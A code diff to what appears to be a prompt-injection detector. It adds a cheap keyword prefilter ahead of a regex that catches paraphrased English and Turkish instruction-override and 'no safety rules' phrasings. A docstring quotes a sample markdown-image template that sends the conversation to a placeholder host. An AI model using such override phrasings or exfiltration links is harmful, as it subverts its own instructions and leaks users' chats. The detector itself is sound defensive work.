@@ -65,6 +65,14 @@ _PARAPHRASE_TR = (
     r"|\b(?:etik|guvenlik|ahlak)\w{0,4} (?:kural|sinir|filtre)\w{0,6} olmadan\b"
 )
 _PARAPHRASE = re2.compile(f"(?:{_PARAPHRASE_EN})|(?:{_PARAPHRASE_TR})")
+#: One of these occurs in every text :data:`_PARAPHRASE` matches (a cheap first look).
+_PARAPHRASE_WORDS = (
+    "act", "behav", "pretend", "imagin", "suppos", "role", "mode", "safety", "content",
+    "ethic", "bypass", "circumvent", "get around", "evade", "have no", "had no", "under no",
+    "talimat", "komut", "kural",
+    "yonerge", "sistem", "sansursuz", "filtresiz", "kisitlamasiz", "sinirsiz", "etik",
+    "guvenlik", "ahlak",
+)  # fmt: skip
 
 
 def paraphrase_kinds(plain: str) -> set[str]:
@@ -72,7 +80,11 @@ def paraphrase_kinds(plain: str) -> set[str]:
     ``exfil_template`` for a markdown image/link or ``<img>`` whose URL has a template
     placeholder in its query (``![x](https://host/log?d={{chat}})``): written for a model to
     fill in with the conversation, never for a person."""
-    found = {"override"} if _PARAPHRASE.search(plain) else set()
+    found = (
+        {"override"}
+        if any(word in plain for word in _PARAPHRASE_WORDS) and _PARAPHRASE.search(plain)
+        else set()
+    )
     if ("](" in plain or "<img" in plain) and _EXFIL_TEMPLATE.search(plain):
         found.add("exfil_template")
     return found
